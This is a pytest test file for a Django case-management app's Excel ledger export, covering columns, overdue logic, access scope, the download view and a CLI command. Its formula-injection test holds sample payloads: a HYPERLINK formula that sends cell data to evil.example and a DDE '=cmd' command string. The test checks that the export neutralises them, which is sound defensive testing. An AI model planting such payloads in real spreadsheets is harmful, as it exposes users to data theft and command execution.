"""The ledger export (问题台账 .xlsx): columns, values, formula guard, scope, view, command."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.db import connection
from django.shortcuts import resolve_url
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from tests.conftest import TIETA, at
from wenming.cases import export, services, views_export
from wenming.cases.export import LEDGER_COLUMNS, ledger_filename, ledger_rows, write_ledger_xlsx
from wenming.cases.models import Case
from wenming.cases.selectors import LedgerFilter
from wenming.core.xlsx import XLSX_CONTENT_TYPE
from wenming.org.models import RoutingRule
from wenming.taxonomy.models import Category

URL = "/ledger/export.xlsx"

HEADERS = [
    "编号",
    "发现时间",
    "来源",
    "点位/地址",
    "街道",
    "社区",
    "网格",
    "问题类别",
    "问题描述",
    "责任单位",
    "整改时限",
    "状态",
    "整改完成时间",
    "复查人",
    "复查时间",
    "是否超期",
    "返工次数",
]


@pytest.fixture(autouse=True)
def _zh():
    with translation.override("zh-hans"):
        yield


def report(user, world, **kw) -> Case:
    args = {
        "title": "铁塔社区垃圾桶满溢未清运",
        "category_id": world.category.pk,
        "lat": TIETA[0],
        "lon": TIETA[1],
        "address": "东昌府区古楼街道铁塔社区",
    }
    args.update(kw)
    return services.case_report(user, **args)


def close(case_id, cast, clock, *, start: str, late: bool = False) -> None:
    """Accept, submit and verify a dispatched case; ``late`` puts the steps days later."""
    day = "2021-03-12" if late else start
    clock.set(at(f"{day} 09:00"))
    services.case_accept(cast.handler, case_id)
    clock.set(at(f"{day} 09:10"))
    services.case_submit(cast.handler, case_id, note="已清运")
    clock.set(at(f"{day} 09:20"))
    services.case_verify(cast.inspector, case_id, note="复查合格")


def sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def values(ws) -> list[list]:
    return [[c.value for c in row] for row in ws.iter_rows()]


def export_bytes(user, f: LedgerFilter | None = None, **kw) -> bytes:
    buf = io.BytesIO()
    write_ledger_xlsx(user, f or LedgerFilter(), buf, **kw)
    return buf.getvalue()


def client_for(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


# --- columns and values ---------------------------------------------------------------------


def test_headers_are_the_offices_columns_in_order(world, cast):
    assert [str(c.header) for c in LEDGER_COLUMNS] == HEADERS
    ws = sheet(export_bytes(cast.office))
    assert values(ws) == [HEADERS]
    assert ws.title == "问题台账"
    assert ws.freeze_panes == "A2"
    assert [c.font.b for c in ws[1]] == [True] * 17
    assert ws.column_dimensions["I"].width == 50


def test_headers_follow_the_active_language(world, cast):
    with translation.override("en"):
        ws = sheet(export_bytes(cast.office))
    assert values(ws)[0][:3] == ["Number", "Found at", "Source"]


def test_row_of_a_case_walked_through_services(world, cast, clock):
    cast.inspector.first_name = "李明"
    cast.inspector.save()
    clock.set(at("2021-03-05 14:00"))
    case = report(cast.inspector, world, description="桶边有散落垃圾")
    clock.set(at("2021-03-05 15:00"))  # Friday: 4 working hours run to Monday 10:00
    services.case_dispatch(cast.office, case.pk)
    clock.set(at("2021-03-08 08:40"))
    services.case_accept(cast.handler, case.pk)
    clock.set(at("2021-03-08 09:30"))
    services.case_submit(cast.handler, case.pk, note="已清运")
    clock.set(at("2021-03-08 10:00"))
    services.case_rework(cast.inspector, case.pk, reason="周边仍有散落垃圾")
    clock.set(at("2021-03-08 11:00"))
    services.case_submit(cast.handler, case.pk, note="已全部清理")
    clock.set(at("2021-03-08 11:30"))
    services.case_verify(cast.inspector, case.pk, note="复查合格")
    clock.set(at("2021-03-09 09:00"))

    ws = sheet(export_bytes(cast.office))
    assert values(ws)[1] == [
        "2021000001",
        datetime(2021, 3, 5, 14, 0),
        "督查发现",
        "东昌府区古楼街道铁塔社区",
        "古楼街道",
        "铁塔社区居委会",
        "铁塔社区1号网格",
        "垃圾清运不及时",
        "铁塔社区垃圾桶满溢未清运：桶边有散落垃圾",
        "市环卫处",
        datetime(2021, 3, 8, 10, 0),
        "已销号",
        datetime(2021, 3, 8, 11, 0),
        "李明",
        datetime(2021, 3, 8, 11, 30),
        "是",  # closed at 11:30, after the 10:00 deadline
        1,
    ]
    row = ws[2]
    assert row[1].number_format == "yyyy-mm-dd hh:mm"
    assert row[1].is_date
    assert row[16].data_type == "n"


def test_overdue_column(world, cast, clock):
    clock.set(at("2021-03-05 14:00"))
    on_time = report(cast.inspector, world, title="按期销号")
    late = report(cast.inspector, world, title="超期销号")
    open_overdue = report(cast.inspector, world, title="整改超期")
    open_in_time = report(cast.inspector, world, title="整改未超期")
    waiting = report(cast.inspector, world, title="待复查")
    report(cast.inspector, world, title="未派遣")
    clock.set(at("2021-03-05 15:00"))  # deadline Monday 2021-03-08 10:00
    for c in (on_time, late, open_overdue, waiting):
        services.case_dispatch(cast.office, c.pk)
    close(on_time.pk, cast, clock, start="2021-03-08")
    close(late.pk, cast, clock, start="2021-03-08", late=True)
    clock.set(at("2021-03-08 09:00"))
    services.case_accept(cast.handler, waiting.pk)
    services.case_submit(cast.handler, waiting.pk, note="已清运")
    clock.set(at("2021-03-12 10:00"))
    services.case_dispatch(cast.office, open_in_time.pk)  # deadline 2021-03-12 14:00
    clock.set(at("2021-03-12 12:00"))

    rows = {r[8]: r for r in ledger_rows(cast.office, LedgerFilter())}
    assert {title: r[15] for title, r in rows.items()} == {
        "按期销号": "否",
        "超期销号": "是",
        "整改超期": "是",
        "整改未超期": "否",
        "待复查": "否",  # submitted before the deadline passed; verification is not the unit's
        "未派遣": "否",
    }
    assert rows["按期销号"][12:15] == [at("2021-03-08 09:10"), "inspector", at("2021-03-08 09:20")]
    assert rows["整改超期"][12:15] == [None, None, None]


def test_sorts(world, cast, clock):
    clock.set(at("2021-03-05 14:00"))
    first = report(cast.inspector, world)
    clock.set(at("2021-03-05 14:10"))
    second = report(cast.inspector, world)
    clock.set(at("2021-03-05 14:20"))
    third = report(cast.inspector, world)
    clock.set(at("2021-03-05 15:00"))
    services.case_dispatch(cast.office, third.pk)
    clock.set(at("2021-03-08 09:00"))
    services.case_dispatch(cast.office, first.pk)

    def numbers(sort):
        return [r[0] for r in ledger_rows(cast.office, LedgerFilter(), sort)]

    assert numbers("-reported_at") == [third.number, second.number, first.number]
    assert numbers("number") == [first.number, second.number, third.number]
    # Cases without a deadline come last in both directions.
    assert numbers("deadline") == [third.number, first.number, second.number]
    assert numbers("-deadline") == [first.number, third.number, second.number]


# --- formula injection ----------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1",
    "@SUM(A1:A2)",
    "-2",
    "＝1+1",
]


def test_formula_injection_is_neutralised(world, cast, clock):
    clock.set(at("2021-03-05 14:00"))
    for title in INJECTIONS:
        report(cast.inspector, world, title=title, address="=cmd|' /C calc'!A0")
    # The services strip leading whitespace; legacy or imported rows may still have it.
    tab = report(cast.inspector, world, title="x")
    Case.objects.filter(pk=tab.pk).update(title="\t=1+1", address="\x01=2")

    data = export_bytes(cast.office, sort="reported_at")
    ws = sheet(data)
    titles = [ws.cell(row=i, column=9) for i in range(2, 8)]
    assert [c.value for c in titles] == ["'" + t for t in INJECTIONS] + ["'\t=1+1"]
    assert {c.data_type for c in titles} == {"s"}
    addresses = [ws.cell(row=i, column=4).value for i in range(2, 8)]
    assert addresses == ["'=cmd|' /C calc'!A0"] * 5 + ["'=2"]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


# --- chunks and queries ---------------------------------------------------------------------


def test_queries_do_not_grow_with_rows_and_chunks_keep_verifiers(world, cast, clock):
    clock.set(at("2021-03-05 14:00"))
    case_ids = [report(cast.inspector, world, title=f"问题{i}").pk for i in range(5)]
    clock.set(at("2021-03-05 15:00"))
    for pk in case_ids:
        services.case_dispatch(cast.office, pk)
    for pk in case_ids:
        close(pk, cast, clock, start="2021-03-08")

    def run(chunk_size):
        with CaptureQueriesContext(connection) as ctx:
            rows = list(ledger_rows(cast.office, LedgerFilter(), chunk_size=chunk_size))
        return rows, len(ctx.captured_queries)

    one_chunk, queries_one_chunk = run(2000)
    three_chunks, queries_three_chunks = run(2)
    assert [r[13] for r in one_chunk] == ["inspector"] * 5
    assert one_chunk == three_chunks
    # The cases in one query, the verify events once per chunk (scope is cached on the user).
    assert queries_one_chunk == 2
    assert queries_three_chunks == 4


# --- scope ----------------------------------------------------------------------------------


def two_units_cases(world, cast, clock):
    clock.set(at("2021-03-05 14:00"))
    mine = report(cast.inspector, world)  # routed to sanitation (市环卫处)
    other = report(cast.inspector, world, category_id=world.category_days.pk)  # 古楼街道办事处
    clock.set(at("2021-03-05 15:00"))
    services.case_dispatch(cast.office, mine.pk)
    services.case_dispatch(cast.office, other.pk)
    return mine, other


def test_a_unit_handlers_export_holds_only_their_cases(world, cast, clock):
    mine, other = two_units_cases(world, cast, clock)
    r = client_for(cast.handler).get(URL)
    assert r.status_code == 200
    rows = values(sheet(b"".join(r.streaming_content)))
    assert [row[0] for row in rows[1:]] == [mine.number]
    assert rows[1][9] == "市环卫处"
    # Another unit's filter does not widen the scope.
    r = client_for(cast.handler).get(URL, {"unit": world.gulou_office.pk})
    assert values(sheet(b"".join(r.streaming_content))) == [HEADERS]
    r = client_for(cast.other_handler).get(URL)
    assert values(sheet(b"".join(r.streaming_content))) == [HEADERS]
    r = client_for(cast.office).get(URL)
    assert len(values(sheet(b"".join(r.streaming_content)))) == 3


# --- the download view ----------------------------------------------------------------------


def test_download(world, cast, clock):
    mine, other = two_units_cases(world, cast, clock)
    clock.set(at("2021-03-08 16:05"))
    r = client_for(cast.office).get(URL, {"status": "dispatched", "unit": world.sanitation.pk})
    assert r.status_code == 200
    assert r["Content-Type"] == XLSX_CONTENT_TYPE
    assert r["Content-Disposition"] == 'attachment; filename="ledger-20210308-1605.xlsx"'
    assert r["Cache-Control"] == "private, no-store"
    rows = values(sheet(b"".join(r.streaming_content)))
    assert [row[0] for row in rows[1:]] == [mine.number]
    assert rows[1][15] == "是"  # overdue since Monday 10:00
    # Empty values (a filter form's blank fields) mean no filter; unknown names are ignored.
    r = client_for(cast.office).get(
        URL + "?status=&category=&unit=&overdue=&date_from=&sort=number&cursor=abc&limit=5"
    )
    rows = values(sheet(b"".join(r.streaming_content)))
    assert [row[0] for row in rows[1:]] == [mine.number, other.number]


def test_file_name_never_comes_from_input(world, cast, clock):
    cat = Category.objects.create(
        code="RB/01",
        name="道路/桥梁破损",
        kind="campaign",
        deadline_amount=1,
        deadline_unit="working_days",
    )
    RoutingRule.objects.create(category=cat, region=world.gulou, unit=world.police)
    clock.set(at("2021-03-05 14:00"))
    report(cast.inspector, world, category_id=cat.pk, title="桥梁护栏破损")
    clock.set(at("2021-03-05 15:00"))
    for params in ({"category_id": cat.pk}, {"category": "RB/01"}):
        r = client_for(cast.office).get(URL, params)
        assert r.status_code == 200
        assert r["Content-Disposition"] == 'attachment; filename="ledger-20210305-1500.xlsx"'
        rows = values(sheet(b"".join(r.streaming_content)))
        assert [row[7] for row in rows[1:]] == ["道路/桥梁破损"]
    assert ledger_filename(at("2021-12-31 23:59")) == "ledger-20211231-2359.xlsx"


@pytest.mark.parametrize(
    "params, message",
    [
        ({"status": "bogus"}, "状态 的取值无效。"),
        ({"status": ["closed", "open"]}, "状态 的取值无效。"),
        ({"source": "twitter"}, "问题来源 的取值无效。"),
        ({"category": "C" * 33}, "问题类别 的取值无效。"),
        ({"category": "CC\x0105"}, "问题类别 的取值无效。"),
        ({"category_id": "99999999999999999999"}, "问题类别必须是正整数。"),
        ({"category_id": "CC05"}, "问题类别必须是正整数。"),
        ({"unit": "abc"}, "责任单位必须是正整数。"),
        ({"unit": "-1"}, "责任单位必须是正整数。"),
        ({"region": "0"}, "区域必须是正整数。"),
        ({"grid": "9223372036854775808"}, "单元网格必须是正整数。"),
        ({"overdue": "maybe"}, "是否超期只能是“是”或“否”。"),
        ({"date_from": "2021-02-30"}, "上报起始日期必须是日期，例如 2021-03-05。"),
        ({"date_to": "0001-01-01"}, "上报截止日期必须是日期，例如 2021-03-05。"),
        ({"date_to": "9999-12-31"}, "上报截止日期必须是日期，例如 2021-03-05。"),
        ({"date_from": "2021-03-06", "date_to": "2021-03-05"}, "上报起始日期晚于截止日期。"),
        ({"sort": "title"}, "未知的排序方式。"),
    ],
)
def test_bad_filters_are_400_and_nothing_is_written(world, cast, monkeypatch, params, message):
    def must_not_run(*a, **kw):
        raise AssertionError("the export ran")

    monkeypatch.setattr(views_export, "write_ledger_xlsx", must_not_run)
    r = client_for(cast.office).get(URL, params)
    assert r.status_code == 400
    assert r["Content-Type"] == "text/plain; charset=utf-8"
    assert r.content.decode() == message
    assert not r.streaming
    assert "Content-Disposition" not in r


def test_anonymous_is_sent_to_login(world):
    r = Client().get(URL, {"status": "closed"})
    assert r.status_code == 302
    assert r["Location"] == (
        resolve_url(settings.LOGIN_URL) + "?next=/ledger/export.xlsx%3Fstatus%3Dclosed"
    )


def test_only_get(world, cast):
    assert client_for(cast.office).post(URL).status_code == 405


def test_a_failed_export_sends_nothing(world, cast, monkeypatch):
    def broken(*a, **kw):
        raise RuntimeError("disk full")

    monkeypatch.setattr(views_export, "write_ledger_xlsx", broken)
    c = client_for(cast.office)
    c.raise_request_exception = False
    r = c.get(URL)
    assert r.status_code == 500
    assert "Content-Disposition" not in r


# --- the command ----------------------------------------------------------------------------


def test_command_writes_the_whole_ledger(world, cast, clock, tmp_path):
    mine, other = two_units_cases(world, cast, clock)
    out = tmp_path / "ledger.xlsx"
    stdout = io.StringIO()
    call_command("export_ledger", "--out", str(out), stdout=stdout)
    rows = values(sheet(out.read_bytes()))
    assert rows[0] == HEADERS
    assert sorted(row[0] for row in rows[1:]) == [mine.number, other.number]
    assert stdout.getvalue().strip() == f"已导出 2 条问题到 {out}。"
    assert list(tmp_path.iterdir()) == [out]


def test_command_filters_and_scope(world, cast, clock, tmp_path):
    mine, other = two_units_cases(world, cast, clock)
    out = tmp_path / "f.xlsx"

    def numbers(*args):
        call_command("export_ledger", "--out", str(out), *args, stdout=io.StringIO())
        return [row[0] for row in values(sheet(out.read_bytes()))[1:]]

    assert numbers("--as", "handler") == [mine.number]
    assert numbers("--as", "other_handler") == []
    assert numbers("--unit", str(world.gulou_office.pk)) == [other.number]
    assert numbers("--status", "dispatched", "closed", "--category", "CC03") == [other.number]
    assert numbers("--status", "closed") == []
    assert numbers("--category-id", str(world.category.pk)) == [mine.number]
    assert numbers("--overdue", "no", "--from", "2021-03-05", "--to", "2021-03-05") == [
        other.number,
        mine.number,
    ]
    assert numbers(
        "--source", "inspection", "--sort", "number", "--region", str(world.gulou.pk)
    ) == [
        mine.number,
        other.number,
    ]


@pytest.mark.parametrize(
    "args, message",
    [
        (["--status", "bogus"], "状态 的取值无效。"),
        (["--unit", "x"], "责任单位必须是正整数。"),
        (["--overdue", "maybe"], "是否超期只能是“是”或“否”。"),
        (["--from", "2021-02-30"], "上报起始日期必须是日期，例如 2021-03-05。"),
        (["--as", "nobody"], "没有名为 nobody 的有效用户。"),
        (["--sort", "title"], "未知的排序方式。"),
    ],
)
def test_command_refuses_bad_arguments(world, cast, tmp_path, args, message):
    out = tmp_path / "ledger.xlsx"
    out.write_bytes(b"old")
    with pytest.raises(CommandError) as exc:
        call_command("export_ledger", "--out", str(out), *args, stdout=io.StringIO())
    assert str(exc.value) == message
    assert out.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [out]


def test_command_refuses_bad_output_paths(world, cast, tmp_path):
    cases = [
        (tmp_path / "ledger.csv", "输出文件名必须以 .xlsx 结尾。"),
        (tmp_path / "missing" / "ledger.xlsx", f"目录 {tmp_path / 'missing'} 不存在。"),
    ]
    (tmp_path / "dir.xlsx").mkdir()
    cases.append((tmp_path / "dir.xlsx", f"{tmp_path / 'dir.xlsx'} 是一个目录。"))
    for out, message in cases:
        with pytest.raises(CommandError) as exc:
            call_command("export_ledger", "--out", str(out), stdout=io.StringIO())
        assert str(exc.value) == message
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dir.xlsx"]
    with pytest.raises(CommandError):
        call_command("export_ledger", stdout=io.StringIO())  # --out is required


def test_command_failure_leaves_no_partial_file(world, cast, tmp_path, monkeypatch):
    from wenming.cases.management.commands import export_ledger as command

    def broken(user, f, out, **kw):
        out.write(b"PK partial")
        raise RuntimeError("disk full")

    monkeypatch.setattr(command, "write_ledger_xlsx", broken)
    out = tmp_path / "ledger.xlsx"
    out.write_bytes(b"old")
    with pytest.raises(RuntimeError):
        call_command("export_ledger", "--out", str(out), stdout=io.StringIO())
    assert out.read_bytes() == b"old"
    assert [p.name for p in Path(tmp_path).iterdir()] == ["ledger.xlsx"]


def test_unknown_sort_in_the_python_api(world, cast):
    from wenming.core.errors import ApplicationError

    with pytest.raises(ApplicationError) as exc:
        list(export.ledger_rows(cast.office, LedgerFilter(), "title"))
    assert (exc.value.code, exc.value.status) == ("invalid_sort", 400)


def test_a_refusal_while_writing_is_a_clean_400(world, cast, monkeypatch):
    from wenming.core.errors import ApplicationError

    def refuse(*a, **kw):
        raise ApplicationError("invalid_date", "日期超出范围。")

    monkeypatch.setattr(views_export, "write_ledger_xlsx", refuse)
    r = client_for(cast.office).get(URL)
    assert (r.status_code, r.content.decode()) == (400, "日期超出范围。")
    assert "Content-Disposition" not in r
